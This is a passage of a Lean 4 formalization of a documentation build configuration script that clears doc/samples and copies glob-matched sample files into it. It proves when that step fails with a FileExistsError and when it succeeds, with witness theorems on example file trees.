      have hms2 : ∀ t ∈ rest, matchesSamplesGlob t = true :=
        fun t htr => hms t (List.mem_cons_of_mem r htr)
      have hnd2 : ∀ t ∈ rest, t ∉ (copyWrite fs1 r (dstPath r)).dirs := by
        intro t htr
        rw [copyWrite_dirs, makedirs_ok_dirs hm]
        intro hmem
        rcases List.mem_append.mp hmem with hmem | hmem
        · exact matched_not_mem_ancestors hmr (hms2 t htr) hmem
        · exact hnd t (List.mem_cons_of_mem r htr) hmem
      have hmem : dstParent r ∈ (copyWrite fs1 r (dstPath r)).dirs := by
        rw [copyWrite_dirs, makedirs_ok_dirs hm]
        exact List.mem_append_left _ (mem_ancestors_self (dstParent_ne_nil r))
      rcases List.mem_cons.mp hp with rfl | hp'
      · have hq' : q ∈ rest := by
          rcases List.mem_cons.mp hq with rfl | h0
          · exact absurd rfl hne
          · exact h0
        rw [hstep]
        exact copyLoop_error_of_parent_dir rest _ q hq' (hpar ▸ hmem) hms2 hnd2
      · rcases List.mem_cons.mp hq with rfl | hq'
        · rw [hstep]
          exact copyLoop_error_of_parent_dir rest _ p hp' (hpar ▸ hmem) hms2 hnd2
        · rw [hstep]
          exact ih _ p q hp' hq' hne hpar hms2 hnd2

theorem filter_matched_rmtree_dirs (l : List FsPath) :
    (l.filter (fun d => !(decide (dstDir <+: d)))).filter (fun p => matchesSamplesGlob p) =
    l.filter (fun p => matchesSamplesGlob p) := by
  induction l with
  | nil => rfl
  | cons d t ih =>
    by_cases hm : matchesSamplesGlob d = true
    · have hk : (!(decide (dstDir <+: d))) = true := by
        simp [matched_not_under_dstDir hm]
      simp [List.filter_cons, hk, hm, ih]
    · by_cases hk : (dstDir <+: d)
      · simp [List.filter_cons, hk, hm, ih]
      · simp [List.filter_cons, hk, hm, ih]

theorem filter_matched_rmtree_files (l : List (FsPath × String)) :
    ((l.filter (fun kv => !(decide (dstDir <+: kv.1)))).map Prod.fst).filter
      (fun p => matchesSamplesGlob p) =
    (l.map Prod.fst).filter (fun p => matchesSamplesGlob p) := by
  induction l with
  | nil => rfl
  | cons kv t ih =>
    by_cases hm : matchesSamplesGlob kv.1 = true
    · have hk : (!(decide (dstDir <+: kv.1))) = true := by
        simp [matched_not_under_dstDir hm]
      simp [List.filter_cons, hk, hm, ih]
    · by_cases hk : (dstDir <+: kv.1)
      · simp [List.filter_cons, hk, hm, ih]
      · simp [List.filter_cons, hk, hm, ih]

theorem globMatches_rmtree (fs : FS) :
    globMatches (rmtree fs dstDir) = globMatches fs := by
  show ((fs.files.filter (fun kv => !(decide (dstDir <+: kv.1)))).map Prod.fst ++
      fs.dirs.filter (fun d => !(decide (dstDir <+: d)))).filter
      (fun p => matchesSamplesGlob p) =
    (fs.files.map Prod.fst ++ fs.dirs).filter (fun p => matchesSamplesGlob p)
  rw [List.filter_append, List.filter_append, filter_matched_rmtree_files,
    filter_matched_rmtree_dirs]

theorem removeDstDir_ok_cases {fs fs1 : FS} (h : removeDstDir fs = .ok fs1) :
    (dstDir ∈ fs.dirs ∧ fs1 = rmtree fs dstDir) ∨ (¬ pathExists fs dstDir ∧ fs1 = fs) := by
  unfold removeDstDir at h
  split at h
  · split at h
    · next hmem => exact Or.inl ⟨hmem, (Except.ok.inj h).symm⟩
    · exact Except.noConfusion h
  · next hex => exact Or.inr ⟨hex, (Except.ok.inj h).symm⟩

theorem removeDstDir_error_cases {fs : FS} {e : PyError} (h : removeDstDir fs = .error e) :
    fileAt fs dstDir ∧ dstDir ∉ fs.dirs ∧ e = .notADirectory dstDir := by
  unfold removeDstDir at h
  split at h
  · split at h
    · exact Except.noConfusion h
    · next hex hmem =>
      refine ⟨?_, hmem, (Except.error.inj h).symm⟩
      rcases hex with hd | hf
      · exact absurd hd hmem
      · exact hf
  · exact Except.noConfusion h

/-- C8 (amended): in any tree in which two distinct glob-matched files share
the same parent directory, `doc/samples` is not itself a regular file, and no
directory is matched by the glob, evaluating the configuration fails with a
`FileExistsError` raised by `os.makedirs` in the copy loop. -/
theorem dup_parent_evaluation_fails (fs : FS) (p q : FsPath)
    (hp : p ∈ globMatches fs) (hq : q ∈ globMatches fs) (hne : p ≠ q)
    (hpar : p.dropLast = q.dropLast) (hnf : ¬ fileAt fs dstDir)
    (hnd : ∀ r ∈ globMatches fs, r ∉ fs.dirs) :
    ∃ d, evalConf fs = Except.error (PyError.fileExists d) := by
  have hpar' : dstParent p = dstParent q := by
    rcases matched_shape (matched_of_mem_glob hp) with ⟨d1, f1, hp1⟩
    rcases matched_shape (matched_of_mem_glob hq) with ⟨d2, f2, hq1⟩
    subst hp1; subst hq1
    simp only [List.dropLast] at hpar
    simp [dstParent, dstPath, fileShort, hpar]
  unfold evalConf
  cases hr : removeDstDir fs with
  | error e =>
    exact absurd (removeDstDir_error_cases hr).1 hnf
  | ok fs1 =>
    have hg : globMatches fs1 = globMatches fs := by
      rcases removeDstDir_ok_cases hr with ⟨_, rfl⟩ | ⟨_, rfl⟩
      · exact globMatches_rmtree fs
      · rfl
    have hnd1 : ∀ r ∈ globMatches fs1, r ∉ fs1.dirs := by
      intro r hr1
      rw [hg] at hr1
      rcases removeDstDir_ok_cases hr with ⟨_, rfl⟩ | ⟨_, rfl⟩
      · intro hmem
        exact hnd r hr1 (mem_rmtree_dirs.mp hmem).1
      · exact hnd r hr1
    rcases copyLoop_error_of_dup (globMatches fs1) fs1 p q (by rw [hg]; exact hp)
      (by rw [hg]; exact hq) hne hpar'
      (fun r hr1 => matched_of_mem_glob hr1) hnd1 with ⟨d, hd⟩
    exact ⟨d, by simp [hd]⟩

/-- Witness for `dup_parent_evaluation_fails` on `fs8w`. -/
theorem dup_parent_evaluation_fails_witness :
    ∃ d, evalConf fs8w = Except.error (PyError.fileExists d) :=
  dup_parent_evaluation_fails fs8w ["samples", "a", "x.rst"] ["samples", "a", "y.rst"]
    (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)

theorem find?_filter_of_keep (l : List (FsPath × String)) (keep : FsPath × String → Bool)
    (p : FsPath) (hk : ∀ c : String, keep (p, c) = true) :
    (l.filter keep).find? (fun kv => kv.1 == p) = l.find? (fun kv => kv.1 == p) := by
  induction l with
  | nil => rfl
  | cons kv t ih =>
    by_cases hp : kv.1 = p
    · have hkv : keep kv = true := by
        have hkv2 : kv = (p, kv.2) := by rw [← hp]
        exact hkv2 ▸ hk kv.2
      simp [List.filter_cons, hkv, List.find?, hp]
    · have hb : (kv.1 == p) = false := by simp [hp]
      cases hkv : keep kv
      · simp [List.filter_cons, hkv, List.find?, hb, ih]
      · simp [List.filter_cons, hkv, List.find?, hb, ih]

theorem getContent_copyWrite (fs : FS) (s d p : FsPath) (h : p ≠ d) :
    getContent (copyWrite fs s d) p = getContent fs p := by
  unfold getContent copyWrite
  rw [List.find?_append, find?_filter_of_keep _ _ p (fun c => by simp [h])]
  cases hf : fs.files.find? (fun kv => kv.1 == p) with
  | none =>
    have hb : (d == p) = false := by simp [Ne.symm h]
    simp [List.find?, hb]
  | some kv => simp

theorem getContent_rmtree (fs : FS) (p : FsPath) (h : ¬ (dstDir <+: p)) :
    getContent (rmtree fs dstDir) p = getContent fs p := by
  unfold getContent rmtree
  rw [find?_filter_of_keep _ _ p (fun c => by simp [h])]

theorem mem_copyWrite_files {fs : FS} {s d : FsPath} {kv : FsPath × String} :
    kv ∈ (copyWrite fs s d).files ↔
      (kv ∈ fs.files ∧ kv.1 ≠ d) ∨ kv = (d, getContent fs s) := by
  unfold copyWrite
  simp [List.mem_filter, List.mem_append, bne_iff_ne]

theorem copyLoop_preserves (ms : List FsPath) :
    ∀ (fs fs2 : FS) (kv : FsPath × String), copyLoop fs ms = .ok fs2 →
    kv ∈ fs.files → (∀ r ∈ ms, dstPath r ≠ kv.1) → kv ∈ fs2.files := by
  induction ms with
  | nil =>
    intro fs fs2 kv h hin _
    have h' : fs = fs2 := Except.ok.inj h
    exact h' ▸ hin
  | cons r rest ih =>
    intro fs fs2 kv h hin hne
    cases hm : makedirs fs (dstParent r) with
    | error e =>
      rw [show copyLoop fs (r :: rest) = .error e by simp [copyLoop, hm]] at h
      exact Except.noConfusion h
    | ok fs1 =>
      cases hc : copyFile fs1 r (dstPath r) with
      | error e =>
        rw [show copyLoop fs (r :: rest) = .error e by simp [copyLoop, hm, hc]] at h
        exact Except.noConfusion h
      | ok fsc =>
        have hceq := copyFile_ok_eq hc
        subst hceq
        rw [copyLoop_cons_ok hm hc] at h
        refine ih _ _ _ h ?_ ?_
        · refine mem_copyWrite_files.mpr (Or.inl ⟨?_, ?_⟩)
          · rw [makedirs_ok_files hm]
            exact hin
          · exact (hne r (List.mem_cons_self r rest)).symm
        · intro t ht
          exact hne t (List.mem_cons_of_mem r ht)

theorem copyLoop_frame (ms : List FsPath) :
    ∀ (fs fs2 : FS), copyLoop fs ms = .ok fs2 →
    ∀ kv : FsPath × String, ¬ (dstDir <+: kv.1) → (kv ∈ fs2.files ↔ kv ∈ fs.files) := by
  induction ms with
  | nil =>
    intro fs fs2 h kv _
    have h' : fs = fs2 := Except.ok.inj h
    rw [h']
  | cons r rest ih =>
    intro fs fs2 h kv hkv
    cases hm : makedirs fs (dstParent r) with
    | error e =>
      rw [show copyLoop fs (r :: rest) = .error e by simp [copyLoop, hm]] at h
      exact Except.noConfusion h
    | ok fs1 =>
      cases hc : copyFile fs1 r (dstPath r) with
      | error e =>
        rw [show copyLoop fs (r :: rest) = .error e by simp [copyLoop, hm, hc]] at h
        exact Except.noConfusion h
      | ok fsc =>
        have hceq := copyFile_ok_eq hc
        subst hceq
        rw [copyLoop_cons_ok hm hc] at h
        rw [ih _ _ h kv hkv]
        have hne : kv.1 ≠ dstPath r := by
          intro hc0
          exact hkv (hc0 ▸ dstDir_prefix_dstPath r)
        constructor
        · intro hmem
          rcases mem_copyWrite_files.mp hmem with ⟨hmem1, _⟩ | hmem1
          · rw [makedirs_ok_files hm] at hmem1
            exact hmem1
          · exact absurd (congrArg Prod.fst hmem1) hne
        · intro hmem
          refine mem_copyWrite_files.mpr (Or.inl ⟨?_, hne⟩)
          rw [makedirs_ok_files hm]
          exact hmem

theorem copyLoop_origin (ms : List FsPath) :
    ∀ (fs fs2 : FS), copyLoop fs ms = .ok fs2 →
    ∀ kv : FsPath × String, kv ∈ fs2.files →
    kv ∈ fs.files ∨ ∃ r, r ∈ ms ∧ kv.1 = dstPath r := by
  induction ms with
  | nil =>
    intro fs fs2 h kv hkv
    have h' : fs = fs2 := Except.ok.inj h
    exact Or.inl (h' ▸ hkv)
  | cons r rest ih =>
    intro fs fs2 h kv hkv
    cases hm : makedirs fs (dstParent r) with
    | error e =>
      rw [show copyLoop fs (r :: rest) = .error e by simp [copyLoop, hm]] at h
      exact Except.noConfusion h
    | ok fs1 =>
      cases hc : copyFile fs1 r (dstPath r) with
      | error e =>
        rw [show copyLoop fs (r :: rest) = .error e by simp [copyLoop, hm, hc]] at h
        exact Except.noConfusion h
      | ok fsc =>
        have hceq := copyFile_ok_eq hc
        subst hceq
        rw [copyLoop_cons_ok hm hc] at h
        rcases ih _ _ h kv hkv with hmem | ⟨t, ht, hdt⟩
        · rcases mem_copyWrite_files.mp hmem with ⟨hmem1, _⟩ | hmem1
          · rw [makedirs_ok_files hm] at hmem1
            exact Or.inl hmem1
          · exact Or.inr ⟨r, List.mem_cons_self r rest, congrArg Prod.fst hmem1⟩
        · exact Or.inr ⟨t, List.mem_cons_of_mem r ht, hdt⟩

theorem matched_ne_dstPath {p : FsPath} (r : FsPath) (hp : matchesSamplesGlob p = true) :
    p ≠ dstPath r := by
  rcases matched_shape hp with ⟨d, f, rfl⟩
  intro h
  unfold dstPath at h
  injection h with h1 _
  exact absurd h1 (by decide)

theorem dstPath_inj_of_matched {p q : FsPath}
    (hp : matchesSamplesGlob p = true) (hq : matchesSamplesGlob q = true)
    (h : dstPath p = dstPath q) : p = q := by
  rcases matched_shape hp with ⟨d1, f1, rfl⟩
  rcases matched_shape hq with ⟨d2, f2, rfl⟩
  simp only [dstPath, fileShort, List.drop, List.cons.injEq] at h
  rw [h.2.2.1, h.2.2.2.1]

theorem copyLoop_copies (ms : List FsPath) :
    ∀ (fs fs2 : FS), copyLoop fs ms = .ok fs2 →
    (∀ r ∈ ms, matchesSamplesGlob r = true) →
    ms.Pairwise (fun a b => a.dropLast ≠ b.dropLast) →
    ∀ r ∈ ms, (dstPath r, getContent fs r) ∈ fs2.files := by
  induction ms with
  | nil =>
    intro fs fs2 _ _ _ r hr
    exact absurd hr (List.not_mem_nil r)
  | cons r0 rest ih =>
    intro fs fs2 h hmat hpw s hs
    cases hm : makedirs fs (dstParent r0) with
    | error e =>
      rw [show copyLoop fs (r0 :: rest) = .error e by simp [copyLoop, hm]] at h
      exact Except.noConfusion h
    | ok fs1 =>
      cases hc : copyFile fs1 r0 (dstPath r0) with
      | error e =>
        rw [show copyLoop fs (r0 :: rest) = .error e by simp [copyLoop, hm, hc]] at h
        exact Except.noConfusion h
      | ok fsc =>
        have hceq := copyFile_ok_eq hc
        subst hceq
        rw [copyLoop_cons_ok hm hc] at h
        rcases List.mem_cons.mp hs with rfl | hs'
        · have hcm : (dstPath s, getContent fs s) ∈ (copyWrite fs1 s (dstPath s)).files := by
            refine mem_copyWrite_files.mpr (Or.inr ?_)
            rw [getContent_congr (makedirs_ok_files hm)]
          refine copyLoop_preserves rest _ _ _ h hcm ?_
          intro t ht hts
          have hmt : matchesSamplesGlob t = true := hmat t (List.mem_cons_of_mem s ht)
          have hms : matchesSamplesGlob s = true := hmat s (List.mem_cons_self s rest)
          have hts' : t = s := dstPath_inj_of_matched hmt hms hts
          have hpwh := (List.pairwise_cons.mp hpw).1 t ht
          exact hpwh (by rw [hts'])
        · have hgc : getContent (copyWrite fs1 r0 (dstPath r0)) s = getContent fs s := by
            rw [getContent_copyWrite _ _ _ _
              (matched_ne_dstPath r0 (hmat s (List.mem_cons_of_mem r0 hs')))]
            exact getContent_congr (makedirs_ok_files hm) s
          have hres := ih _ _ h (fun t ht => hmat t (List.mem_cons_of_mem r0 ht))
            (List.pairwise_cons.mp hpw).2 s hs'
          rw [hgc] at hres
          exact hres

theorem dstParent_not_mem_ancestors {r s : FsPath}
    (hr : matchesSamplesGlob r = true) (hs : matchesSamplesGlob s = true)
    (hne : r.dropLast ≠ s.dropLast) :
    dstParent s ∉ ancestors (dstParent r) := by
  rcases matched_shape hr with ⟨d1, f1, rfl⟩
  rcases matched_shape hs with ⟨d2, f2, rfl⟩
  intro h
  rw [matched_dstParent, matched_dstParent,
    show ancestors ["doc", "samples", d1] =
      [["doc"], ["doc", "samples"], ["doc", "samples", d1]] from rfl] at h
  simp at h
  exact hne (by simp [List.dropLast, h])

theorem dstParent_ne_dstPath {r s : FsPath}
    (hr : matchesSamplesGlob r = true) (hs : matchesSamplesGlob s = true) :
    dstParent s ≠ dstPath r := by
  rcases matched_shape hr with ⟨d1, f1, rfl⟩
  rcases matched_shape hs with ⟨d2, f2, rfl⟩
  intro h
  rw [matched_dstParent] at h
  unfold dstPath fileShort at h
  simp at h

theorem copyLoop_ok (ms : List FsPath) :
    ∀ fs : FS, (∀ r ∈ ms, matchesSamplesGlob r = true) →
    ms.Pairwise (fun a b => a.dropLast ≠ b.dropLast) →
    (∀ r ∈ ms, dstParent r ∉ fs.dirs ∧ ¬ fileAt fs (dstParent r)) →
    (∀ r ∈ ms, r ∉ fs.dirs) →
    ∃ fs2, copyLoop fs ms = .ok fs2 := by
  induction ms with
  | nil =>
    intro fs _ _ _ _
    exact ⟨fs, rfl⟩
  | cons r rest ih =>
    intro fs hmat hpw hfree hnd
    have hcond := hfree r (List.mem_cons_self r rest)
    have hmr := hmat r (List.mem_cons_self r rest)
    have hmk : makedirs fs (dstParent r) =
        .ok { fs with dirs := ancestors (dstParent r) ++ fs.dirs } := by
      unfold makedirs
      exact if_neg (not_or.mpr hcond)
    have hrd : r ∉ ({ fs with dirs := ancestors (dstParent r) ++ fs.dirs } : FS).dirs := by
      intro hmem
      rcases List.mem_append.mp hmem with hmem | hmem
      · exact matched_not_mem_ancestors hmr hmr hmem
      · exact hnd r (List.mem_cons_self r rest) hmem
    have hcp : copyFile { fs with dirs := ancestors (dstParent r) ++ fs.dirs } r (dstPath r) =
        .ok (copyWrite { fs with dirs := ancestors (dstParent r) ++ fs.dirs } r (dstPath r)) :=
      copyFile_ok_of_not_dir hrd
    have hfree2 : ∀ s ∈ rest,
        dstParent s ∉ (copyWrite { fs with dirs := ancestors (dstParent r) ++ fs.dirs }
            r (dstPath r)).dirs ∧
        ¬ fileAt (copyWrite { fs with dirs := ancestors (dstParent r) ++ fs.dirs }
            r (dstPath r)) (dstParent s) := by
      intro s hsr
      have hms := hmat s (List.mem_cons_of_mem r hsr)
      constructor
      · rw [copyWrite_dirs]
        intro hmem
        rcases List.mem_append.mp hmem with hmem | hmem
        · exact dstParent_not_mem_ancestors hmr hms
            ((List.pairwise_cons.mp hpw).1 s hsr) hmem
        · exact (hfree s (List.mem_cons_of_mem r hsr)).1 hmem
      · intro hf
        rcases List.mem_map.mp hf with ⟨kv, hkv, hfst⟩
        rcases List.mem_append.mp hkv with hkv' | hkv'
        · have hin : kv ∈ fs.files := (List.mem_filter.mp hkv').1
          exact (hfree s (List.mem_cons_of_mem r hsr)).2 (List.mem_map.mpr ⟨kv, hin, hfst⟩)
        · rw [List.mem_singleton] at hkv'
          rw [hkv'] at hfst
          exact dstParent_ne_dstPath hmr hms hfst.symm
    have hnd2 : ∀ s ∈ rest,
        s ∉ (copyWrite { fs with dirs := ancestors (dstParent r) ++ fs.dirs }
            r (dstPath r)).dirs := by
      intro s hsr
      rw [copyWrite_dirs]
      intro hmem
      rcases List.mem_append.mp hmem with hmem | hmem
      · exact matched_not_mem_ancestors hmr (hmat s (List.mem_cons_of_mem r hsr)) hmem
      · exact hnd s (List.mem_cons_of_mem r hsr) hmem
    rcases ih (copyWrite { fs with dirs := ancestors (dstParent r) ++ fs.dirs } r (dstPath r))
      (fun t ht => hmat t (List.mem_cons_of_mem r ht))
      (List.pairwise_cons.mp hpw).2 hfree2 hnd2 with ⟨fs2, h2⟩
    refine ⟨fs2, ?_⟩
    rw [copyLoop_cons_ok hmk hcp]
    exact h2

theorem dstDir_prefix_dstParent {r : FsPath} (h : matchesSamplesGlob r = true) :
    dstDir <+: dstParent r := by
  rcases matched_shape h with ⟨d, f, rfl⟩
  rw [matched_dstParent]
  exact ⟨[d], rfl⟩

theorem dst_desc_not_present {fs : FS} (hwf : WF fs) (hex : ¬ pathExists fs dstDir)
    {p : FsPath} (hpre : dstDir <+: p) : p ∉ fs.dirs ∧ ¬ fileAt fs p := by
  have hdne : (dstDir : FsPath) ≠ [] := by simp [dstDir]
  constructor
  · intro hp
    exact hex (Or.inl (hwf.1 p hp dstDir (prefix_mem_ancestors hpre hdne)))
  · intro hf
    rcases List.mem_map.mp hf with ⟨kv, hkv, hfst⟩
    by_cases hdp : dstDir = p
    · subst hdp
      exact hex (Or.inr (List.mem_map.mpr ⟨kv, hkv, hfst⟩))
    · refine hex (Or.inl ?_)
      refine hwf.2 kv hkv dstDir (prefix_mem_ancestors ?_ hdne) ?_
      · rw [hfst]
        exact hpre
      · rw [hfst]
        exact hdp

theorem evalConf_ok_of_clean (fs fs1 : FS)
    (ha : removeDstDir fs = .ok fs1)
    (hb : globMatches fs1 = globMatches fs)
    (hpw : (globMatches fs).Pairwise (fun a b => a.dropLast ≠ b.dropLast))
    (hc : ∀ r ∈ globMatches fs, dstParent r ∉ fs1.dirs ∧ ¬ fileAt fs1 (dstParent r))
    (hcd : ∀ r ∈ globMatches fs, r ∉ fs1.dirs)
    (hd : ∀ kv : FsPath × String, ¬ (dstDir <+: kv.1) → (kv ∈ fs1.files ↔ kv ∈ fs.files))
    (he : ∀ p ∈ globMatches fs, getContent fs1 p = getContent fs p)
    (hf : ∀ kv : FsPath × String, kv ∈ fs1.files → ¬ (dstDir <+: kv.1)) :
    ∃ fs2, evalConf fs = .ok (fs2, confAssignments) ∧
      (∀ kv : FsPath × String, ¬ (dstDir <+: kv.1) → (kv ∈ fs2.files ↔ kv ∈ fs.files)) ∧
      (∀ p ∈ globMatches fs, (dstPath p, getContent fs p) ∈ fs2.files) ∧
      (∀ kv : FsPath × String, kv ∈ fs2.files → (dstDir <+: kv.1) →
        ∃ p, p ∈ globMatches fs ∧ kv.1 = dstPath p) := by
  have hmat : ∀ r ∈ globMatches fs, matchesSamplesGlob r = true :=
    fun r hr => matched_of_mem_glob hr
  rcases copyLoop_ok (globMatches fs) fs1 hmat hpw hc hcd with ⟨fs2, hloop⟩
  have hloop2 : copyLoop fs1 (globMatches fs1) = .ok fs2 := by
    rw [hb]
    exact hloop
  refine ⟨fs2, ?_, ?_, ?_, ?_⟩
  · unfold evalConf
    rw [ha]
    simp only []
    rw [hloop2]
  · intro kv hkv
    rw [copyLoop_frame (globMatches fs) fs1 fs2 hloop kv hkv]
    exact hd kv hkv
  · intro p hp
    have hcp := copyLoop_copies (globMatches fs) fs1 fs2 hloop hmat hpw p hp
    rw [he p hp] at hcp
    exact hcp
  · intro kv hkv hpre
    rcases copyLoop_origin (globMatches fs) fs1 fs2 hloop kv hkv with hmem | ⟨r, hr, hrd⟩
    · exact absurd hpre (hf kv hmem)
    · exact ⟨r, hr, hrd⟩

/-- C7 (amended): on a well-formed tree where `doc/samples` is not a regular
file, no directory is matched by the glob, and no two glob-matched files
share a parent directory, evaluating conf.py succeeds; afterwards every path
outside `doc/samples` holds exactly the files it held before (in particular
everything under `samples/` is unchanged), every glob-matched file has been
copied to `doc/samples` at its path relative to `samples/` with its original
content, and everything under `doc/samples` stems from those copies (the
prior `doc/samples` tree was deleted first). -/
theorem conf_copies_sample_readmes (fs : FS) (hwf : WF fs)
    (hnf : ¬ fileAt fs dstDir)
    (hnd : ∀ r ∈ globMatches fs, r ∉ fs.dirs)
    (hpw : (globMatches fs).Pairwise (fun a b => a.dropLast ≠ b.dropLast)) :
    ∃ fs2, evalConf fs = .ok (fs2, confAssignments) ∧
      (∀ kv : FsPath × String, ¬ (dstDir <+: kv.1) → (kv ∈ fs2.files ↔ kv ∈ fs.files)) ∧
      (∀ p ∈ globMatches fs, (dstPath p, getContent fs p) ∈ fs2.files) ∧
      (∀ kv : FsPath × String, kv ∈ fs2.files → (dstDir <+: kv.1) →
        ∃ p, p ∈ globMatches fs ∧ kv.1 = dstPath p) := by
  by_cases hex : pathExists fs dstDir
  · have hdir : dstDir ∈ fs.dirs := by
      rcases hex with h | h
      · exact h
      · exact absurd h hnf
    have ha : removeDstDir fs = .ok (rmtree fs dstDir) := by
      unfold removeDstDir
      rw [if_pos hex, if_pos hdir]
    refine evalConf_ok_of_clean fs (rmtree fs dstDir) ha (globMatches_rmtree fs) hpw
      ?_ ?_ ?_ ?_ ?_
    · intro r hr
      have hpre := dstDir_prefix_dstParent (matched_of_mem_glob hr)
      constructor
      · intro hmem
        exact (mem_rmtree_dirs.mp hmem).2 hpre
      · intro hfm
        rcases List.mem_map.mp hfm with ⟨kv, hkv, hfst⟩
        exact (mem_rmtree_files.mp hkv).2 (hfst ▸ hpre)
    · intro r hr hmem
      exact hnd r hr (mem_rmtree_dirs.mp hmem).1
    · intro kv hkv
      rw [mem_rmtree_files]
      exact and_iff_left hkv
    · intro p hp
      exact getContent_rmtree fs p (matched_not_under_dstDir (matched_of_mem_glob hp))
    · intro kv hkv
      exact (mem_rmtree_files.mp hkv).2
  · have ha : removeDstDir fs = .ok fs := by
      unfold removeDstDir
      rw [if_neg hex]
    refine evalConf_ok_of_clean fs fs ha rfl hpw ?_ hnd (fun kv _ => Iff.rfl)
      (fun p _ => rfl) ?_
    · intro r hr
      exact dst_desc_not_present hwf hex (dstDir_prefix_dstParent (matched_of_mem_glob hr))
    · intro kv hkv hpre
      rcases dst_desc_not_present hwf hex hpre with ⟨_, hnofile⟩
      exact hnofile (List.mem_map.mpr ⟨kv, hkv, rfl⟩)

/-- Witness for `conf_copies_sample_readmes` on `fs7w`. -/
theorem conf_copies_sample_readmes_witness :
    ∃ fs2, evalConf fs7w = .ok (fs2, confAssignments) ∧
      (∀ kv : FsPath × String, ¬ (dstDir <+: kv.1) → (kv ∈ fs2.files ↔ kv ∈ fs7w.files)) ∧
      (∀ p ∈ globMatches fs7w, (dstPath p, getContent fs7w p) ∈ fs2.files) ∧
      (∀ kv : FsPath × String, kv ∈ fs2.files → (dstDir <+: kv.1) →
        ∃ p, p ∈ globMatches fs7w ∧ kv.1 = dstPath p) :=
  conf_copies_sample_readmes fs7w (by decide) (by decide) (by decide) (by decide)
